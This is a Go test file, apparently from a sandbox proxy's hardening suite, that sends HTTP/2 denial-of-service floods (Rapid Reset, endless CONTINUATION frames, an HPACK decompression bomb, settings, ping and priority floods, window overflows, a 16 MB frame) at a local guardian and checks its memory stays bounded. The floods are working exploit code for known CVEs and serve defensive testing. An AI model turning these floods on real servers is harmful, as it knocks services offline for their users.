package corpus

import (
	"bufio"
	"bytes"
	"cloister/escape"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func nw32b() escape.Case {
	return escape.Case{
		ID: "NW-32b", Class: "HTTP/2 floods", Attack: "within opened TLS: streams reset as soon as they begin, a head that never ends, a compressed head that unpacks to 100 MB, floods of settings, pings, priorities and empty data, windows that overflow, streams beyond the bound",
		Source: "CVE-2023-44487, CVE-2023-45288, CVE-2019-9511 to 9518", Layers: []string{"form", "limits"}, Needs: gate(), Slow: 90,
		Tries: func(in escape.Inside) []escape.Try {
			const name, no = "inspected.test", "what it takes is looked at in the guardian: its memory, and who else is served"
			out := []escape.Try{good("a request before", in, func() error { return stream(in, name, ask(name, [2]string{":path", "/ok/before32b"})...) })}
			for what, do := range floods() {
				out = append(out, escape.Try{Name: what, Held: gone(), Control: escape.ByNobody, Why: no, Do: func() error { return flooded2(in, name, do) }})
			}
			return append(out, good("a request after", in, func() error { return stream(in, name, ask(name, [2]string{":path", "/ok/after32b"})...) }))
		},
		Host: func(w *escape.World) []escape.Finding {
			sent := strings.Join(w.Upstream(), "\n")
			peak, err := peakOf(w.Guardian)
			events, eerr := w.Events()
			return []escape.Finding{
				found("the guardian's memory stays bounded", err == nil && peak > 0 && peak < 400<<10, "%d KiB, %v", peak, err),
				found("of 20,000 streams that were reset few are begun upstream", strings.Count(sent, "/ok/reset32b") < 10_000, "%d", strings.Count(sent, "/ok/reset32b")),
				found("the record is no flood of them", eerr == nil && len(events) < 60_000, "%d events, %v", len(events), eerr),
				found("control: before and after a request went up", strings.Contains(sent, "before32b") && strings.Contains(sent, "after32b"), "%.300s", sent),
			}
		},
	}
}

// peakOf is the most memory that a process had, in KiB: proc_pid_status(5).
func peakOf(pid int) (int, error) {
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, err
	}
	_, rest, _ := strings.Cut(string(text), "VmHWM:")
	return strconv.Atoi(strings.Fields(rest)[0])
}

// flooded2 opens HTTP/2, does something bad and tells whether the other side ended it.
// What is taken in silence came to nothing: what it cost is looked at elsewhere.
func flooded2(in escape.Inside, name string, do func(f *http2.Framer, head []byte) error) error {
	c, err := opened(in, name, "h2")
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(15 * time.Second)); err != nil {
		return err
	}
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return plain(err)
	}
	w := bufio.NewWriterSize(c, 64<<10)
	f := http2.NewFramer(w, c)
	ended := make(chan error, 1)
	go func() {
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				ended <- err
				return
			}
			if _, ok := frame.(*http2.GoAwayFrame); ok {
				ended <- escape.ErrRefused
				return
			}
		}
	}()
	err = errors.Join(f.WriteSettings(), do(f, block(ask(name, [2]string{":path", "/ok/reset32b"})...)), w.Flush())
	if err == nil {
		// A last word that a side which still listens answers.
		_ = errors.Join(f.WritePing(false, [8]byte{3, 2, 'b'}), w.Flush(), c.CloseWrite())
	}
	<-ended
	return escape.ErrNothing
}

// block is a head in HPACK.
func block(fields ...[2]string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, field := range fields {
		_ = enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // a buffer takes all
	}
	return b.Bytes()
}

// floods are the bad things.
func floods() map[string]func(f *http2.Framer, head []byte) error {
	each := func(n int, do func(i uint32) error) error {
		for i := range n {
			if err := do(uint32(i)); err != nil {
				return err
			}
		}
		return nil
	}
	begin := func(f *http2.Framer, id uint32, head []byte, end bool) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: end, EndHeaders: true})
	}
	return map[string]func(f *http2.Framer, head []byte) error{
		"streams that are reset": func(f *http2.Framer, head []byte) error {
			return each(20_000, func(i uint32) error {
				return errors.Join(begin(f, 2*i+1, head, true), f.WriteRSTStream(2*i+1, http2.ErrCodeCancel))
			})
		},
		"a head that never ends": func(f *http2.Framer, head []byte) error {
			junk := block([2]string{"x-junk", strings.Repeat("j", 8000)})
			return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head}), each(8000, func(uint32) error { return f.WriteContinuation(1, false, junk) }))
		},
		"empty pieces of a head": func(f *http2.Framer, head []byte) error {
			return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head}), each(100_000, func(uint32) error { return f.WriteContinuation(1, false, nil) }))
		},
		"a head that unpacks to 100 MB": func(f *http2.Framer, head []byte) error {
			var b bytes.Buffer
			enc := hpack.NewEncoder(&b)
			if err := enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}); err != nil {
				return err
			}
			b.Write(bytes.Repeat([]byte{0xbe}, 26_000)) // the newest of the table, each time
			bomb := append(append([]byte{}, head...), b.Bytes()...)
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: bomb[:16_000], EndStream: true})
			return errors.Join(err, f.WriteContinuation(1, true, bomb[16_000:]))
		},
		"settings": func(f *http2.Framer, _ []byte) error {
			return each(50_000, func(i uint32) error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + i%2})
			})
		},
		"a table of 4 GB": func(f *http2.Framer, head []byte) error {
			return errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1<<32 - 1}), begin(f, 1, head, true))
		},
		"pings": func(f *http2.Framer, _ []byte) error {
			return each(50_000, func(uint32) error { return f.WritePing(false, [8]byte{}) })
		},
		"priorities": func(f *http2.Framer, _ []byte) error {
			return each(50_000, func(i uint32) error { return f.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3}) })
		},
		"empty data": func(f *http2.Framer, head []byte) error {
			post := bytes.Replace(head, []byte{0x82}, []byte{0x83}, 1)
			return errors.Join(begin(f, 1, post, false), each(50_000, func(uint32) error { return f.WriteData(1, false, nil) }))
		},
		"a window that overflows": func(f *http2.Framer, head []byte) error {
			return errors.Join(begin(f, 1, head, true), each(3, func(uint32) error { return f.WriteWindowUpdate(0, 1<<31-1) }))
		},
		"a window that stays shut": func(f *http2.Framer, head []byte) error {
			return errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}), each(300, func(i uint32) error { return begin(f, 2*i+1, head, true) }))
		},
		"2,000 streams that stay": func(f *http2.Framer, head []byte) error {
			post := bytes.Replace(head, []byte{0x82}, []byte{0x83}, 1)
			return each(2000, func(i uint32) error { return begin(f, 2*i+1, post, false) })
		},
		"streams from the other side": func(f *http2.Framer, head []byte) error {
			return errors.Join(begin(f, 2, head, true), begin(f, 4, head, true))
		},
		"a stream that was": func(f *http2.Framer, head []byte) error {
			return errors.Join(begin(f, 5, head, true), begin(f, 3, head, true), f.WriteData(1, true, []byte("x")))
		},
		"a frame of 16 MB": func(f *http2.Framer, _ []byte) error {
			return f.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<24-1))
		},
	}
}
